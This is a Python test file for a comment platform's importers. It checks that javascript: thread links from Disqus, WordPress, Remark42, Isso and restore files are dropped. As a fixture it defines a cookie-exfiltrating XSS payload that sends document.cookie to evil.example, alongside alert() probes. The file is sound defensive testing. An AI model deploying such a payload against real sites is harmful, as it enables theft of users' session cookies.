"""A thread's link is kept only as an http(s) URL. The Disqus, WordPress and Remark42
importers stored whatever link a file gave (``javascript:…`` included), and took such a
link as the thread's key, an explicit id; the workspace then showed it as a link. Now a
link that is no http(s) URL is dropped (the thread keys by its other identifiers, or is
skipped), and a Rostra-format restore drops one too. http(s) links are kept as written."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from import_builders import (
    DisqusPost,
    DisqusThread,
    WpComment,
    WpPost,
    remark_comment,
    write_disqus,
    write_isso,
    write_remark42,
    write_wxr,
)
from import_helpers import Rostra, thread_by_key
from sqlalchemy import insert, select

from rostra.store.tables import sites, threads

SCRIPT = "javascript:fetch('//evil.example/'+document.cookie)"


def _threads(rostra: Rostra) -> list[tuple[str, str | None]]:
    with rostra.db.read() as conn:
        return sorted((r.key, r.url) for r in conn.execute(select(threads.c.key, threads.c.url)))


def test_disqus_keeps_only_http_links(backend: tuple[Rostra, Rostra], tmp_path: Path) -> None:
    rostra, _ = backend
    path = write_disqus(
        tmp_path / "disqus.xml",
        [DisqusThread("1", SCRIPT, identifier="story-9"),
         DisqusThread("2", "javascript:alert(1)"),
         DisqusThread("3", "https://news.example/a/", identifier="story-10")],
        [DisqusPost("11", "1", "<p>On a scripted link</p>"),
         DisqusPost("12", "2", "<p>Nothing else names this page</p>"),
         DisqusPost("13", "3", "<p>On a page</p>")])
    result = rostra.ok("import", "disqus", path, "--site", "news")
    assert "skipped: thread without a usable link or identifier" in result.output
    assert _threads(rostra) == [("/a", "https://news.example/a/"), ("story-9", None)]


def test_wordpress_keeps_only_http_links(backend: tuple[Rostra, Rostra],
                                         tmp_path: Path) -> None:
    rostra, _ = backend
    path = write_wxr(tmp_path / "wp.xml", [
        WpPost(7, "Scripted", SCRIPT, comments=[WpComment(1, "First")]),
        WpPost(8, "Plain", "https://news.example/2024/03/rents/",
               comments=[WpComment(2, "Second")])])
    rostra.ok("import", "wordpress", path, "--site", "news")
    # The scripted item keys by its guid (the shortlink), as one without a link would.
    assert _threads(rostra) == [("/2024/03/rents", "https://news.example/2024/03/rents/"),
                                ("/?p=7", None)]


def test_remark42_and_isso_skip_pages_named_by_a_script(backend: tuple[Rostra, Rostra],
                                                        tmp_path: Path) -> None:
    rostra, _ = backend
    remark = write_remark42(tmp_path / "remark.json", [
        remark_comment("c1", "javascript:alert(document.domain)", "Scripted"),
        remark_comment("c2", "https://blog.example/b/", "On a page")])
    result = rostra.ok("import", "remark42", remark, "--site", "blog")
    assert "skipped: comment without a page URL" in " ".join(result.output.split())
    isso = write_isso(tmp_path / "isso.db", [(1, "JavaScript:alert(1)", "Scripted"),
                                             (2, "/c/", "A page")],
                      [{"tid": 1, "id": 1, "created": 1.6e9, "text": "Scripted"},
                       {"tid": 2, "id": 2, "created": 1.6e9, "text": "On a page"}])
    result = rostra.ok("import", "isso", isso, "--site", "blog")
    assert "skipped: thread whose uri names no page" in " ".join(result.output.split())
    assert _threads(rostra) == [("/b", "https://blog.example/b/"), ("/c", None)]


def test_a_restore_drops_a_scripted_link(backend: tuple[Rostra, Rostra],
                                         tmp_path: Path) -> None:
    source, target = backend
    with source.db.write() as conn:
        conn.execute(insert(sites).values(id="news", name="News", origins=[], settings={},
                                          created_at=datetime.now(UTC)))
        conn.execute(insert(threads).values(**thread_row("news", "story-9", SCRIPT)))
        conn.execute(insert(threads).values(**thread_row("news", "/a", "https://news.example/a/")))
    path = tmp_path / "export.jsonl"
    source.ok("export", path)
    target.ok("import", "rostra", path)
    # (An older server's import may have keyed a thread by such a link: the key is kept,
    # as it is text, never a link; the link goes.)
    assert thread_by_key(target.db, "news", "story-9").url is None
    assert thread_by_key(target.db, "news", "/a").url == "https://news.example/a/"


def thread_row(site: str, key: str, url: str) -> dict[str, object]:
    now = datetime(2024, 1, 1, tzinfo=UTC)
    return {"site_id": site, "key": key, "url": url, "title": None, "created_at": now,
            "updated_at": now, "comment_count": 0, "top_level_count": 0, "closed": False}
